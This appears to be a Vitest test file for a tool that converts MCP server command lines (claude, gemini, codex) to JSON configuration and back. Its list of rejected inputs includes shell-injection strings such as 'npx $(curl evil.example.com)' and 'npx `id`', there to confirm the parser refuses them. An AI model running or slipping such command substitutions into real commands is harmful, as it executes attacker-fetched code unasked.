/** Command lines: parsed to servers, and written from servers. */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how variables look

import { describe, expect, test } from 'vitest';
import { readText } from '../../../../scripts/lib/repository.ts';
import { quoteWord, splitCommands } from '../../../../server/config/shell-words.ts';
import { convert } from '../../../../server/convert/index.ts';
import { fc, runs } from '../../random-runs.ts';

const serversOf = async (text: string): Promise<unknown> => JSON.parse((await convert(text)).text).mcpServers;
const http = (url: string, more: object = {}): object => ({ type: 'http', url, ...more });

const lines = readText('test/fixtures/command-lines.txt')
  .trimEnd()
  .split('\n')
  .slice(1)
  .map((line): [line: string, servers: object] => {
    const [command = '', servers = ''] = line.replaceAll('⏎', '\n').split('  → ');
    return [command, JSON.parse(servers)];
  });

describe('reading a command line', () => {
  test.each(lines)('converts %s', async (line, servers) => {
    expect(await serversOf(line)).toEqual(servers);
  });

  test.each([
    'claude mcp add --client-id i --client-secret --callback-port 80 -t http a https://a.example.com',
    `claude mcp add-json a '{"type":"http","url":"https://a.example.com","oauth":{"clientId":"i"}}' --client-secret`,
  ])('reports that the tool prompts for the client secret: %s', async (line) => {
    const { text, report } = await convert(line);
    expect(JSON.parse(text).mcpServers.a.oauth).toMatchObject({ clientId: 'i', clientSecret: '${MCP_CLIENT_SECRET}' });
    expect(report).toMatchObject([
      {
        kind: 'changed',
        field: 'oauth.clientSecret',
        reason: 'The source tool prompts for this value. Set the environment variable MCP_CLIENT_SECRET.',
      },
    ]);
  });

  test('reports options without an equivalent property', async () => {
    const { report } = await convert('gemini mcp add --trust --exclude-tools a,b --description hi x node x.js');
    expect(report.map(({ field }) => field)).toEqual(['description', 'excludeTools', 'trust']);
  });

  test('reports environment variables of a server with a URL', async () => {
    const { report } = await convert('codex mcp add web --url https://example.com/mcp --env A=1');
    expect(report.map(({ field, reason }) => [field, reason])).toEqual([['env', 'Not supported for http servers.']]);
  });

  test('reports no line numbers', async () => {
    const { report, reportText } = await convert('gemini mcp add --trust x node x.js');
    expect(report.map(({ field, line }) => [field, line])).toEqual([['trust', null]]);
    expect(reportText).not.toContain('(line');
  });

  test.each([
    '',
    'hello world',
    'npm install express',
    'uv pip install x',
    'bash install.sh',
    'docker build .',
    'docker run',
    'npx',
    'claude mcp list',
    'claude mcp add',
    'claude mcp add x',
    'claude mcp add --unknown x -- y',
    "claude mcp add-json x '{broken'",
    'npx foo | tee log',
    'npx foo > log',
    'npx "foo',
    'npx $(curl evil.example.com)',
    'npx `id`',
    'npx a\nand then some words',
    'ftp://example.com/x',
    'code .',
    '__proto__ mcp add x -- y',
    'constructor mcp add x -- y',
  ])('rejects %s', async (line) => {
    await expect(convert(line)).rejects.toMatchObject({ name: 'ConversionError' });
  });
});

describe('quoting', () => {
  test.each([
    [`a 'b c' "d e" f\\ g ''`, ['a', 'b c', 'd e', 'f g', '']],
    [`"a\\"b" 'c\\d' "e\\f"`, ['a"b', 'c\\d', 'e\\f']],
    [`$A "$B" '$C' \\$D $`, ['${A}', '${B}', '$C', '$D', '$']],
    ['a#b #c', ['a#b']],
    ["'it'\\''s'", ["it's"]],
  ])('splits %s', (line, words) => {
    expect(splitCommands(line)).toEqual([words]);
  });

  test('preserves any words after quoting and splitting', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (words) => {
        // A single leading `$` or `>` is treated as a shell prompt.
        fc.pre(words[0] !== '$' && words[0] !== '>');
        expect(splitCommands(words.map(quoteWord).join(' '))).toEqual([words]);
      }),
      { numRuns: runs(100) },
    );
  });
});

describe('writing a command line', () => {
  const line = async (server: object, name = 'docs'): Promise<string> =>
    (await convert(JSON.stringify({ mcpServers: { [name]: server } }), { to: 'command' })).text.trim();

  test('writes a stdio server', async () => {
    expect(await line({ command: 'npx', args: ['-y', 'a b'], env: { KEY: '${KEY}', B: 'x' } })).toBe(
      `claude mcp add --env 'KEY=\${KEY}' --env B=x --transport stdio docs -- npx -y 'a b'`,
    );
  });

  test('writes a remote server', async () => {
    expect(await line(http('https://example.com/mcp', { headers: { Authorization: 'Bearer ${T}' } }))).toBe(
      `claude mcp add --transport http docs https://example.com/mcp --header 'Authorization: Bearer \${T}'`,
    );
    expect(await line(http('https://example.com', { oauth: { clientId: 'c', callbackPort: 80 } }))).toBe(
      'claude mcp add --client-id c --callback-port 80 --transport http docs https://example.com',
    );
  });

  test('reports properties that a command line does not support', async () => {
    const text = JSON.stringify({ mcpServers: { docs: { command: 'x', cwd: '/srv', timeout: 5 } } });
    const { report } = await convert(text, { to: 'command' });
    expect(report.map(({ field }) => field)).toEqual(['cwd', 'timeout']);
  });

  test.each(lines.filter(([first]) => !first.includes('--callback-port')))(
    'preserves servers when converted back: %s',
    async (first, servers) => {
      const { text } = await convert((await convert(first)).text, { to: 'command' });
      const lost = JSON.parse(JSON.stringify(servers, (key, value) => (key === 'timeout' ? undefined : value)));
      expect(await serversOf(text)).toEqual(lost);
    },
  );
});
